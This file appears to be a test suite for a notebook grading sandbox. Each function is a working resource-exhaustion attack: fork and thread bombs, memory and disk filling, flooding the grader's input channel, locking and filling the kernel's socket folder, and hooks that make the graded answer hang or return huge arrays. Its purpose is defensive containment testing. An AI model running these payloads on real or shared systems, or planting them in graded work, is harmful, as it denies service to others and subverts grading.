"""Attacks that take all there is of something. They cost their own notebook, and nothing else."""

from attacks.corpus import FIRST_ANSWERS, WITHOUT_FIRST, attack, without
from gradings import ALL

FIRST = FIRST_ANSWERS[:1]


@attack("crashed", WITHOUT_FIRST, cells=FIRST)
def bombs_with_processes():
    """Forks until no more processes can be had."""
    import os
    import time

    try:
        while True:
            if os.fork() == 0:
                os.closerange(0, 256)
                time.sleep(7777)
    except OSError:
        print("x" * 100_000)  # so much takes the kernel a thread to send


@attack("crashed", WITHOUT_FIRST, cells=FIRST)
def bombs_with_threads():
    """Starts threads until no more can be had."""
    import threading
    import time

    try:
        while True:
            threading.Thread(target=time.sleep, args=(7777,), daemon=True).start()
    except RuntimeError:
        print("x" * 100_000)


@attack("out of memory", without("window-mask"), cells=FIRST)
def asks_for_50_gigabytes():
    """Makes an array that no machine of the class can hold."""
    import numpy as np

    np.ones(50 * 10**9, dtype=np.uint8)


@attack("out of memory", WITHOUT_FIRST, cells=FIRST)
def fills_memory_from_many_processes():
    """Stays below the limit of a process in each of twenty."""
    import mmap
    import os
    import time

    at_once = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE
    for _ in range(20):
        if os.fork() == 0:
            os.closerange(0, 256)
            memory = mmap.mmap(-1, 1 << 29, flags=at_once)
            time.sleep(7777)
            memory.close()
    time.sleep(7777)


@attack("timed out", without("window-mask"), cells=FIRST)
def loops_for_ever():
    """Never comes to the end of its cell."""
    while True:
        pass


@attack("timed out", WITHOUT_FIRST, cells=FIRST)
def loops_and_swallows_interrupts():
    """Never comes to its end, and cannot be interrupted."""
    import signal

    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass


@attack("timed out", without("attended-pairs"), cells=("attended-pairs-answer",))
def sleeps_in_its_answer():
    """Defines a function that takes an hour for every call."""
    import time

    get_ipython().events.register(
        "post_run_cell",
        lambda *args: get_ipython().user_ns.update(
            attended_pairs=lambda seq_len, window_size: time.sleep(3600)
        ),
    )


@attack("output limit", WITHOUT_FIRST, cells=FIRST)
def prints_for_ever():
    """Prints as long as it is let."""
    while True:
        print("All work and no play makes Jack a dull boy. " * 100)


@attack("output limit", WITHOUT_FIRST, cells=FIRST)
def displays_50_megabytes():
    """Displays one thing that is too large to be looked at."""
    from IPython.display import HTML, display

    display(HTML("x" * (50 << 20)))


@attack("output limit", WITHOUT_FIRST, cells=FIRST)
def displays_things_for_ever():
    """Displays one small thing after the other."""
    from IPython.display import display

    while True:
        display("All work and no play makes Jack a dull boy. " * 100)


@attack("output limit", WITHOUT_FIRST, cells=FIRST)
def displays_and_clears_for_ever():
    """Keeps nothing of what it displays, and never ends."""
    from IPython.display import clear_output, display

    while True:
        display("x" * 10_000)
        clear_output()


@attack("graded", ALL, cells=FIRST)
def floods_a_channel_that_nobody_reads():
    """Sends half a gigabyte of requests for input, which wait in the grader's memory to be read."""
    kernel = get_ipython().kernel
    content = {"prompt": "x" * (8 << 20), "password": False}
    identity = kernel.get_parent()["header"]["session"].encode()
    for _ in range(60):
        kernel.session.send(kernel.stdin_socket, "input_request", content, ident=[identity])


@attack("graded", ALL, cells=FIRST)
def fills_the_disk():
    """Writes files until there is no more room, everywhere it may."""
    import glob

    for folder in (".", "/tmp", "/dev/shm"):
        try:
            for number in range(99):
                open(f"{folder}/{number}", "wb").write(bytes(50 << 20))
        except OSError:
            pass
    for path in glob.glob("/tmp/[0-9]*"):
        open(path, "w").close()


@attack("output limit", WITHOUT_FIRST, cells=FIRST)
def fills_the_folder_of_its_sockets():
    """Writes into the one folder that it shares with the outside."""
    import glob
    import time

    (folder,) = glob.glob("/tmp/**/kernel-*", recursive=True)
    for number in range(10_000):
        open(f"{folder}/{number}", "wb").write(b"x" * 1000)
    time.sleep(7777)


@attack("graded or timed out", without("window-mask"), cells=FIRST)
def recurses_without_end():
    """Calls itself until Python gives up."""

    def again():
        return again()

    again()


@attack("crashed", WITHOUT_FIRST, cells=FIRST)
def overflows_the_stack():
    """Recurses in C, where nothing counts, until its process is killed."""
    import sys

    sys.setrecursionlimit(10**9)
    nested = []
    for _ in range(10**6):
        nested = [nested]
    repr(nested)


@attack(
    "crashed or timed out or graded",  # as far as the kernel itself comes without another file
    WITHOUT_FIRST,
    cells=FIRST,
    marks_if={"graded": without("window-mask")},
)
def opens_every_file_it_may():
    """Opens files until no more can be opened."""
    files = []
    while True:
        files.append(open("/dev/null"))


@attack("graded", without("attended-pairs"), cells=("attended-pairs-answer",))
def answers_with_huge_arrays():
    """Returns a hundred megabytes for a number."""
    import numpy as np

    get_ipython().events.register(
        "post_run_cell",
        lambda *args: get_ipython().user_ns.update(
            attended_pairs=lambda seq_len, window_size: np.zeros((100 << 20,), dtype=np.uint8)
        ),
    )


@attack("graded", ALL, cells=FIRST)
def displays_html_that_grows_when_it_is_cleaned():
    """Displays open tags that a parser repeats in every paragraph that follows."""
    from IPython.display import HTML, display

    display(HTML("<p>" + "".join(f"<b title={n}>" for n in range(9999)) + "<p>x" * 9999))


@attack("output limit", WITHOUT_FIRST, cells=FIRST)
def hides_files_in_the_folder_of_its_sockets():
    """Makes a folder in the one that it shares with the outside, and fills that."""
    import glob
    import os
    import time

    (folder,) = glob.glob("/tmp/**/kernel-*", recursive=True)
    os.mkdir(f"{folder}/deep")
    for number in range(10_000):
        open(f"{folder}/deep/{number}", "wb").write(b"x" * 1000)
    time.sleep(7777)


@attack("output limit", WITHOUT_FIRST, cells=FIRST)
def locks_the_folder_of_its_sockets():
    """Forbids everybody to look into the folder that it shares with the outside."""
    import glob
    import os
    import time

    (folder,) = glob.glob("/tmp/**/kernel-*", recursive=True)
    try:
        os.chmod(folder, 0o300)
        os.mkdir(f"{folder}/deep")  # for who may look all the same
    except OSError:
        pass
    time.sleep(7777)


@attack("output limit", WITHOUT_FIRST, cells=FIRST)
def wears_out_its_watcher():
    """Has processes end while they are looked at, and then fills the folder of its sockets."""
    import glob
    import os
    import signal
    import time

    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    until = time.monotonic() + 4
    while time.monotonic() < until:
        if not os.fork():
            os._exit(0)
    (folder,) = glob.glob("/tmp/**/kernel-*", recursive=True)
    for number in range(10_000):
        open(f"{folder}/{number}", "wb").write(b"x" * 1000)
    time.sleep(7777)
